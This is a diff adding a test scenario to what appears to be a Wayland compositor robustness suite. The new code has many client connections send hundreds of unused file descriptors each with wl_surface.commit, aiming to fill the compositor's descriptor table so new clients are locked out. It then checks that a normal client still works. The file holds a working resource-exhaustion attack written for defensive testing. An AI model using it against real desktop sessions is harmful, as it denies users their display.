@@ -11,7 +11,9 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/eventfd.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -401,6 +403,119 @@ ATT_SCENARIO(run_hole_charge, "hole-charge",
 	if (!wl_display_get_error(a->display))
 		beside_the_heavy(a, o);
 	for (int i = 0; i < c && i < CHARGE_CONNECTIONS; i++)
+		att_disconnect(&conns[i]);
+}
+
+/*
+ * File descriptors parked in the compositor. libwayland-server reads every
+ * fd a client sends into the connection's queue and hands them out only
+ * to requests that take one; fds sent with requests that take none stay
+ * there, open in the compositor, until the connection closes (up to the
+ * queue's 1024 per connection: one more and libwayland drops the client,
+ * so 980 stay). They cost the sender nothing (one
+ * eventfd, its copies closed at once). A few connections fill a 4096-fd
+ * table: then accept() fails for every new client, and pools and the
+ * keymap memfd cannot be had. Each connection sends wl_surface.commit
+ * (no fd argument) with 28 fds a message, 35 times, and stays
+ * connected; then a well-behaved connection must get a pool
+ * and a frame (asserted).
+ */
+#define PARKED_CONNECTIONS 64
+#define PARKED_PER_MSG 28	/* libwayland-client's MAX_FDS_OUT */
+#define PARKED_MSGS 35		/* 980 fds: the queue holds 1024 */
+
+static int count_fds(pid_t pid)
+{
+	char path[64], line[64];
+	int n = 0;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
+	f = fopen(path, "re");
+	if (!f)
+		return -1;
+	/* FDSize is the table's size; count the open ones instead. */
+	fclose(f);
+	snprintf(line, sizeof(line), "ls /proc/%d/fd 2>/dev/null | wc -l",
+		 (int)pid);
+	f = popen(line, "r");
+	if (!f || fscanf(f, "%d", &n) != 1)
+		n = -1;
+	if (f)
+		pclose(f);
+	return n;
+}
+
+/* One wl_surface.commit of @surface with @n copies of @efd attached. */
+static int send_commit_with_fds(int sock, uint32_t surface, int efd, int n)
+{
+	uint32_t msg[2] = { surface, (8u << 16) | 6u };	/* commit */
+	char control[CMSG_SPACE(sizeof(int) * PARKED_PER_MSG)];
+	struct iovec iov = { .iov_base = msg, .iov_len = sizeof(msg) };
+	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1,
+			     .msg_control = control,
+			     .msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)n) };
+	struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
+	int *fds = (int *)CMSG_DATA(cm);
+
+	memset(control, 0, sizeof(control));
+	cm->cmsg_level = SOL_SOCKET;
+	cm->cmsg_type = SCM_RIGHTS;
+	cm->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)n);
+	for (int i = 0; i < n; i++)
+		fds[i] = efd;
+	return sendmsg(sock, &mh, MSG_NOSIGNAL) == (ssize_t)sizeof(msg) ? 0 : -1;
+}
+
+ATT_SCENARIO(run_parked_fds, "parked-fds",
+	     "64 connections each send 980 fds with wl_surface.commit, a request that takes none: the fds stay open in the compositor; then a well-behaved connection must get a pool and a frame (asserted)",
+	     SURVIVES)
+{
+	static struct attack conns[PARKED_CONNECTIONS];
+	int efd = eventfd(0, EFD_CLOEXEC), c, cut = 0, most = 0;
+	int before = a->compositor_pid ? count_fds(a->compositor_pid) : -1;
+
+	if (efd < 0) {
+		att_fail_setup(o, "eventfd: %s", strerror(errno));
+		return;
+	}
+	raise_nofile();
+	for (c = 0; c < PARKED_CONNECTIONS; c++) {
+		struct attack *x = &conns[c];
+		struct wl_surface *s;
+		int sent = 0, n;
+
+		x->timeout_ms = a->timeout_ms;
+		if (att_connect(x) != 0) {
+			/* Locked out already: what the probe below says. */
+			att_note(o, "connection %d could not connect", c);
+			break;
+		}
+		s = wl_compositor_create_surface(x->compositor);
+		if (att_roundtrip(x) != 0)
+			break;
+		for (int m = 0; m < PARKED_MSGS; m++) {
+			if (send_commit_with_fds(att_raw_fd(x),
+						 wl_proxy_get_id((struct wl_proxy *)s),
+						 efd, PARKED_PER_MSG) != 0)
+				break;
+			sent += PARKED_PER_MSG;
+			if (m % 4 == 3 && att_roundtrip(x) != 0)
+				break;
+		}
+		if (att_roundtrip(x) != 0)
+			cut++;
+		n = a->compositor_pid ? count_fds(a->compositor_pid) : -1;
+		if (n > most)
+			most = n;
+		(void)sent;
+	}
+	close(efd);
+	att_note(o, "%d connections, %d cut off; compositor fds: %d before, at most %d",
+		 c, cut, before, most);
+	if (!wl_display_get_error(a->display))
+		beside_the_heavy(a, o);
+	for (int i = 0; i < c && i < PARKED_CONNECTIONS; i++)
 		att_disconnect(&conns[i]);
 }
 
